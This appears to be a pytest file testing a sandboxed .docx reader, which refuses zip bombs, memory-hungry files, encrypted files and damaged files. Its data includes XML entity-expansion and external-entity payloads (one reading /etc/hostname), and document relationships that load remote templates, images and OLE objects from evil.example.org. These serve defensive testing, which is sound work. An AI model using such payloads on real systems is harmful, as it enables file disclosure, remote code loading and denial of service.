"""Word documents that are damaged, protected or made to do harm: each is named, none is opened."""

import io
import os
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from bot.collect.formats import sandbox
from bot.collect.stage import Collected
from bot.errors import CollectError
from bot.markup import to_text
from tests.collect import word

TEXT = """
# On the Ferry Fees
7 March 2026
The fee takes two months of pay before the first day of work.
"""
Cycle = Callable[[], Collected]
Write = Callable[..., Path]


def refused(content: bytes) -> CollectError:
    with pytest.raises(CollectError) as raised:
        sandbox.read(content, ".docx")
    assert raised.value.what
    assert raised.value.mend
    return raised.value


def reason(content: bytes) -> str:
    return refused(content).reason


def document(body: str) -> str:
    names = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:document xmlns:w="{names}"><w:body>{body}</w:body></w:document>'


def with_body(body: str) -> bytes:
    return word.build(TEXT, {"word/document.xml": document(body)})


def with_relation(kind: str, target: str) -> bytes:
    plain = word.build(TEXT)
    relation = (
        f'<Relationship Id="own" Type="{word.OFFICE}/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    )
    rels = word.part(plain, word.RELS).replace("</Relationships>", relation)
    return word.repack(plain, {word.RELS: rels})


def test_a_document_is_read_in_a_child_process() -> None:
    assert "two months of pay" in sandbox.read(word.build(TEXT), ".docx")


def test_what_a_part_unpacks_to_is_counted() -> None:
    bomb = with_body("<w:p/>" * 5_000_000)
    assert len(bomb) < 100_000
    assert reason(bomb) in {"unsafe", "too-large"}


def test_many_parts_together_are_counted() -> None:
    noise = os.urandom(1_500_000).hex()
    parts = {f"customXml/item{number}.xml": f"<x>{noise}</x>" for number in range(9)}
    assert reason(word.build(TEXT, parts)) == "too-large"


def test_a_header_that_lies_about_the_size_does_not_help() -> None:
    content = with_body("<w:p/>" * 3_000_000)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        size = package.getinfo("word/document.xml").file_size
    lying = content.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))
    assert lying != content
    assert reason(lying) in {"unsafe", "too-large", "damaged"}


def test_a_package_within_the_package_is_not_unpacked() -> None:
    inner = with_body("<w:p/>" * 5_000_000)
    nested = word.build(TEXT, {"word/embeddings/inner.docx": inner, "word/media/p.png": inner})
    assert "two months of pay" in sandbox.read(nested, ".docx")


def test_too_many_entries_are_refused() -> None:
    parts = {f"x/{number}.bin": b"" for number in range(3_000)}
    assert reason(word.build(TEXT, parts)) == "too-large"


def many_runs(count: int) -> bytes:
    run = '<w:r><w:rPr><w:b/><w:lang w:val="{}"/></w:rPr><w:t>{}</w:t></w:r>'
    runs = "".join(run.format(number % 977, number % 1013) for number in range(count))
    return with_body(f"<w:p>{runs}</w:p>")


def test_a_small_document_that_wants_much_memory_is_refused() -> None:
    greedy = many_runs(120_000)
    assert len(greedy) < 1_000_000
    assert reason(greedy) == "too-large"


def test_a_child_gets_no_more_memory_than_it_may_have() -> None:
    with pytest.raises(CollectError) as raised:
        sandbox.read(many_runs(10_000), ".docx", memory=90_000_000)
    assert raised.value.reason == "too-large"
    assert "memory" in raised.value.what


DOCTYPES = {
    "entities": '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>',
    "a file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>',
    "an address": '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
}


@pytest.mark.parametrize("name", ["word/document.xml", "docProps/app.xml", "word/_rels/x.xml.rels"])
@pytest.mark.parametrize("doctype", DOCTYPES)
def test_declarations_are_refused_in_every_part(doctype: str, name: str) -> None:
    body = DOCTYPES[doctype] + document("<w:p><w:r><w:t>x</w:t></w:r></w:p>")
    assert reason(word.build(TEXT, {name: body})) == "unsafe"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-7", "cp037"])
def test_declarations_do_not_hide_in_another_encoding(encoding: str) -> None:
    body = f'<?xml version="1.0" encoding="{encoding}"?>' + DOCTYPES["entities"]
    content = (body + document("")).encode(encoding)
    assert reason(word.build(TEXT, {"word/document.xml": content})) in {"unsafe", "damaged"}


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example.org/template.dotm"),
        ("attachedTemplate", "\\\\evil.example.org\\share\\template.dotm"),
        ("attachedTemplate", "file://evil.example.org/share/template.dotm"),
        ("image", "http://evil.example.org/pixel.png"),
        ("oleObject", "mhtml:http://evil.example.org/x!http://evil.example.org/x"),
        ("subDocument", "//evil.example.org/x.docx"),
    ],
)
def test_what_loads_something_from_elsewhere_is_refused(kind: str, target: str) -> None:
    assert reason(with_relation(kind, target)) == "unsafe"


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://example.org/"),
        ("attachedTemplate", "file:///C:\\Users\\somebody\\Normal.dotm"),
        ("attachedTemplate", "Normal.dotm"),
    ],
)
def test_links_and_a_template_on_ones_own_disk_are_no_danger(kind: str, target: str) -> None:
    html = sandbox.read(with_relation(kind, target), ".docx")
    assert "two months of pay" in html
    assert "somebody" not in html


def test_programs_in_a_document_stay_packed() -> None:
    content = word.build(TEXT, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 canary"})
    assert "canary" not in sandbox.read(content, ".docx")


def test_a_document_cut_short_is_damaged() -> None:
    content = word.build(TEXT)
    assert reason(content[: len(content) // 2]) == "damaged"


def test_a_part_that_was_overwritten_is_damaged() -> None:
    content = word.build(TEXT, {"word/document.xml": "<w:document"})
    assert reason(content) == "damaged"


def test_an_archive_without_a_document_is_damaged() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as out:
        out.writestr("notes.txt", "x")
    assert reason(packed.getvalue()) == "damaged"


def test_deep_nesting_is_refused() -> None:
    deep = "<w:tbl><w:tr><w:tc>" * 3_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3_000
    assert reason(with_body(deep)) in {"unsafe", "damaged"}


def test_a_document_with_a_password_says_so() -> None:
    content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    assert reason(content + "EncryptedPackage".encode("utf-16-le")) == "encrypted"
    assert "old kind" in refused(content).what


def test_an_archive_with_a_password_says_so() -> None:
    content = bytearray(word.build(TEXT))
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    assert reason(bytes(content)) == "encrypted"


def test_a_child_that_hangs_is_ended() -> None:
    begun = time.monotonic()
    with pytest.raises(CollectError) as raised:
        sandbox.read(b"x", ".docx", timeout=0.5, worker="tests.standins.hanging_reader")
    assert raised.value.reason == "too-large"
    assert time.monotonic() - begun < 10


def test_a_child_that_dies_amid_its_answer_gives_no_half_text() -> None:
    with pytest.raises(CollectError) as raised:
        sandbox.read(b"x", ".docx", worker="tests.standins.dying_reader")
    assert raised.value.reason == "damaged"


def test_a_child_that_never_stops_talking_is_ended() -> None:
    with pytest.raises(CollectError) as raised:
        sandbox.read(b"x", ".docx", worker="tests.standins.chattering_reader")
    assert raised.value.reason == "too-large"


def test_the_child_knows_nothing_of_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOKEN", "canary")
    assert "canary" not in str(sandbox.environment())


def test_one_bad_document_does_not_keep_the_others(cycle: Cycle, write: Write) -> None:
    write("bad.docx", word.build(TEXT)[:900])
    write("good.docx", word.build(TEXT))
    collected = cycle()
    assert [one.title for one in collected.statements] == ["On the Ferry Fees"]
    (refusal,) = collected.report.rejected
    assert (refusal.id, refusal.reason) == ("statements/bad.docx", "damaged")


def text_of(body: str) -> str:
    """Return the words that are read of a document's body, without tags."""
    return " ".join(to_text(sandbox.read(with_body(body), ".docx")).split())


@pytest.mark.parametrize(
    ("form", "label", "items"),
    [
        ("lowerLetter", "(%1)", "<li>(a) Rest</li><li>(b) Pay</li>"),
        ("upperLetter", "%1.", "<li>A. Rest</li><li>B. Pay</li>"),
        ("upperRoman", "%1.", "<li>I. Rest</li><li>II. Pay</li>"),
        ("lowerRoman", "%1)", "<li>i) Rest</li><li>ii) Pay</li>"),
        ("decimalZero", "%1.", '<li value="01">Rest</li><li value="02">Pay</li>'),
    ],
)
def test_numbers_are_read_as_they_are_printed(form: str, label: str, items: str) -> None:
    assert items in sandbox.read(word.build(f"@{form} {label}\n1. Rest\n2. Pay"), ".docx")


RUN = "<w:r><w:t>{}</w:t></w:r>"
WORDS = f"<w:p>{RUN.format('They wait.')}</w:p>"


@pytest.mark.parametrize(
    ("body", "read"),
    [
        # A row and a cell that were deleted, and not accepted yet.
        ((f"<w:tbl><w:tr><w:trPr><w:del/></w:trPr><w:tc>{WORDS}</w:tc></w:tr>"
         "<w:tr><w:tc><w:tcPr><w:cellDel/></w:tcPr><w:p><w:r><w:t>Gone</w:t></w:r></w:p></w:tc>"
         "<w:tc><w:p><w:r><w:t>Rest</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"), "Rest"),
        # The end of a paragraph was deleted: its words begin the next one.
        ((f"<w:p><w:pPr><w:rPr><w:del/></w:rPr></w:pPr>{RUN.format('Rest ')}</w:p>"
         f"<w:p><w:pPr/>{RUN.format('for all')}</w:p>"), "Rest for all"),
        (f"{WORDS}<w:p><w:pPr><w:rPr><w:del/></w:rPr></w:pPr></w:p>", "They wait."),
        (f"<w:p>{RUN.format('Rest')}<w:del>{RUN.format(' never')}</w:del></w:p>", "Rest"),
        # A field shows its result; its code is not read.
        (("<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
         "<w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:t>code</w:t></w:r>"
         "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>7</w:t></w:r>"
         "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"), "7"),
        (("<w:p><w:r><w:instrText> PAGE </w:instrText></w:r>"
         "<w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:t>Rest</w:t></w:r></w:p>"), "Rest"),
        # A text that stands in for words that nobody wrote.
        ((f"{WORDS}<w:sdt><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent><w:p>"
         f"{RUN.format('Click here')}</w:p></w:sdtContent></w:sdt>"), "They wait."),
        ("<w:p><w:r><w:t>re</w:t><w:noBreakHyphen/><w:t>read</w:t><w:ptab/></w:r></w:p>",
         "re\u2011read"),
    ],
)  # fmt: skip
def test_what_is_read_is_what_a_word_processor_shows(body: str, read: str) -> None:
    assert text_of(body) == read
